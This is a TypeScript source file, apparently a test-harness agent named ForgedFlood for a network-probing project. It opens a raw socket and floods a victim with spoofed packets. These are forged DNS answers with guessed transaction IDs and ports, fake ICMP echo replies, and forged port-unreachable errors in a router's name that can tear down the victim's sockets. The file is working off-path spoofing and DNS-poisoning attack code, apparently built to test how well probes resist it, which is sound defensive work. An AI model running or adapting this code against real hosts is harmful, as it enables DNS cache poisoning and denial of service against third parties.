/**
 * The program behind ForgedFlood: a host that sees none of the victim's probes and sends answers to
 * all it can think of, in the names of the targets, as fast as it can. It reports `sent COUNT MS`
 * ten times a second. Its one argument is ForgerOptions as JSON; it ends with its standard input.
 */
import { encodeQuestion } from '../../../src/probe/messages/dns-message.ts'
import { internetChecksum } from '../../../src/probe/messages/icmp-message.ts'
import { loadLibc } from '../../../src/probe/sockets/libc.ts'
import { openPacketSender, socketAddress } from '../../../src/probe/sockets/raw-socket.ts'
import { monotonicMs } from '../measure/monotonic.ts'
import { agentOptions, begin, report } from './agent-program.ts'

/** A DNS answer, a reply to a ping, an error about a ping, an error about a DNS question. */
export type Forged = 'dns' | 'reply' | 'ping_error' | 'dns_error'

export interface ForgerOptions {
  readonly kinds: readonly Forged[]
  readonly victim: string
  /** In whose name. */
  readonly targets: readonly string[]
  /** Errors come in its name. */
  readonly router: string
  /** Where the victim's probes may come from; the first is the likeliest. */
  readonly ports: { readonly first: number; readonly last: number }
  readonly dnsName: string
  /** As in DNS: 0 is fine, 2 is SERVFAIL. */
  readonly dnsCode: number
}

const atOnce = 200
const reportEveryMs = 100
const options = agentOptions<ForgerOptions>()
const load = loadLibc()
if (load.kind === 'missing') throw new Error(load.reason)
const { libc } = load
const opened = openPacketSender(libc, 'ipv4', 1)
if (opened.kind === 'failed') throw new Error(opened.reason)
const fd = opened.value
const to = socketAddress(options.victim)
const forge = options.kinds.flatMap((kind) =>
  options.targets.map((target) => forgerOf(kind, target)),
)
let sent = 0
let reportedMs = 0

begin()
flood()

function flood(): void {
  for (let i = 0; i < atOnce; i += 1) {
    const packet = forge[sent % forge.length]?.()
    if (packet !== undefined) libc.sendto(fd, packet, to)
    sent += 1
  }
  const nowMs = monotonicMs()
  if (nowMs - reportedMs >= reportEveryMs) {
    reportedMs = nowMs
    report('sent', sent, nowMs)
  }
  setImmediate(flood)
}

/** A packet to be sent again and again, each time with other guesses. */
function forgerOf(kind: Forged, target: string): () => Buffer {
  switch (kind) {
    case 'dns': {
      const answer = encodeQuestion(0, { name: options.dnsName, type: 'A', class: 'IN' })
      answer.writeUInt16BE(0x8180 | options.dnsCode, 2)
      const packet = ipPacket(17, target, options.victim, udpPacket(53, 0, answer))
      return () => {
        packet.writeUInt16BE(guessPort(), 22)
        packet.writeUInt16BE(guess(), 28)
        return packet
      }
    }
    case 'reply': {
      const packet = ipPacket(1, target, options.victim, Buffer.alloc(64))
      return () => summed(guessNumbers(packet, 24))
    }
    case 'ping_error': {
      const quoted = ipPacket(1, options.victim, target, Buffer.of(8, 0, 0, 0, 0, 0, 0, 0))
      const packet = errorAbout(quoted)
      return () => {
        packet.writeUInt16BE(guess(), 50)
        return summed(guessNumbers(packet, 52))
      }
    }
    case 'dns_error': {
      const quoted = ipPacket(17, options.victim, target, udpPacket(0, 53, Buffer.alloc(0)))
      const packet = errorAbout(quoted)
      return () => {
        packet.writeUInt16BE(guessPort(), 48)
        return summed(packet)
      }
    }
    default:
      return kind satisfies never
  }
}

/** Destination unreachable: its port, which is the error that closes sockets. */
function errorAbout(quoted: Buffer): Buffer {
  const error = Buffer.concat([Buffer.of(3, 3, 0, 0, 0, 0, 0, 0), quoted])
  return ipPacket(1, options.router, options.victim, error)
}

function ipPacket(protocol: number, source: string, destination: string, content: Buffer): Buffer {
  const header = Buffer.alloc(20)
  header.writeUInt8(0x45, 0)
  header.writeUInt16BE(header.length + content.length, 2)
  header.writeUInt8(64, 8)
  header.writeUInt8(protocol, 9)
  header.set(source.split('.').map(Number), 12)
  header.set(destination.split('.').map(Number), 16)
  return Buffer.concat([header, content])
}

/** Without a checksum, as IPv4 allows. */
function udpPacket(source: number, destination: number, content: Buffer): Buffer {
  const header = Buffer.alloc(8)
  header.writeUInt16BE(source, 0)
  header.writeUInt16BE(destination, 2)
  header.writeUInt16BE(header.length + content.length, 4)
  return Buffer.concat([header, content])
}

function guessNumbers(packet: Buffer, at: number): Buffer {
  packet.writeUInt16BE(guess(), at)
  packet.writeUInt16BE(guess(), at + 2)
  return packet
}

/** The kernel drops ICMP whose own checksum is wrong. */
function summed(packet: Buffer): Buffer {
  packet.writeUInt16BE(0, 22)
  packet.writeUInt16BE(internetChecksum(packet.subarray(20)), 22)
  return packet
}

function guess(): number {
  return Math.floor(Math.random() * 0x10000)
}

/** Every second one is the first: programs that look for a free port begin there. */
function guessPort(): number {
  const { first, last } = options.ports
  return Math.random() < 0.5 ? first : first + Math.floor(Math.random() * (last - first + 1))
}
